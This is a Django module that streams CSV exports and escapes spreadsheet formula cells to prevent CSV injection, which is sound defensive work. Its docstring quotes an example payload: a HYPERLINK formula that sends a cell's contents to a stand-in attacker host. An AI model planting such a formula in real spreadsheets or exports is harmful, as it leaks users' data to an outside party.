"""The one way this project writes CSV: streamed, every cell made safe for spreadsheets.

A cell a spreadsheet reads as a formula (one beginning with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return) is prefixed with a single quote, so a message such as
``=HYPERLINK("http://evil.example/?"&A1,"open")`` sent by a middleware shows as text in the
finance team's Excel instead of running (CSV injection, OWASP). Numbers, dates and
amounts are written as they are: only text is escaped, so ``-120.50`` as a Decimal stays a
number. Used by every CSV export (exceptions list, KPI series).
"""

import csv
import datetime as dt

from django.http import StreamingHttpResponse
from django.utils.cache import add_never_cache_headers

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """A value as a CSV cell: None empty, dates in ISO 8601, formula-like text escaped."""
    if value is None:
        return ""
    if isinstance(value, dt.date):  # datetimes too
        return value.isoformat()
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


class _Echo:
    def write(self, value):
        return value


def csv_response(rows, *, filename: str) -> StreamingHttpResponse:
    """Stream ``rows`` (an iterable of sequences, header first) as an attachment. Exports
    hold finance data, so they are never stored by a cache."""
    writer = csv.writer(_Echo())
    response = StreamingHttpResponse(
        (writer.writerow([safe_cell(v) for v in row]) for row in rows), content_type="text/csv; charset=utf-8"
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    add_never_cache_headers(response)
    return response
